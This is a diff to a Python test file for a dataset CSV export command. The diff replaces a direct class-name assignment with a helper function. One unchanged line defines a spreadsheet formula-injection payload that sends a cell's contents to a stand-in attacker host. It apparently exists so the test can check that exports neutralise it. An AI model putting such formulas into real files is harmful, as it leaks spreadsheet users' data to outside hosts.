@@ -11,7 +11,7 @@ import pytest
 from db.engine import dispose_engines, session_scope
 from db.models import Dataset
 from tests.cli.helpers import assert_bad_input, ganaug, ok_json, refused
-from tests.db.helpers import make_dataset
+from tests.db.helpers import make_dataset, rename_classes
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"open")'
 
@@ -37,7 +37,7 @@ def _export_rows(home, tmp_path, names: list[str]) -> list[dict]:
     with session_scope() as s:
         make_dataset(s, home)
     with session_scope() as s:  # class names as a dataset's folders gave them
-        s.query(Dataset).one().class_names = names
+        rename_classes(s, s.query(Dataset).one(), names)
     ok_json("export", "--dataset", "toy", "--out", tmp_path / "gated")
     with open(tmp_path / "gated" / "images.csv", newline="", encoding="utf-8") as f:
         return list(csv.DictReader(f))
